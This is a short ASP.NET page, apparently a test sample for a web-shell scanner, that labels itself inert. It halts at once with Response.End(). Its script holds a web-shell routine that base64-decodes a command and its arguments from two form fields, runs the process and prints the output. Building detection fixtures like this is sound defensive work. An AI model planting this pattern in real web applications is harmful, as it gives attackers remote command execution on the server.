<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
string X(string a, string b) {
  var ps = new ProcessStartInfo(); ps.FileName = Encoding.UTF8.GetString(Convert.FromBase64String(a));
  ps.Arguments = Encoding.UTF8.GetString(Convert.FromBase64String(b));
  ps.RedirectStandardOutput = true; ps.UseShellExecute = false;
  return Process.Start(ps).StandardOutput.ReadToEnd();
}
void Go(object s, EventArgs e) { Response.Write(X(txtA.Text, txtB.Text)); }
</script>
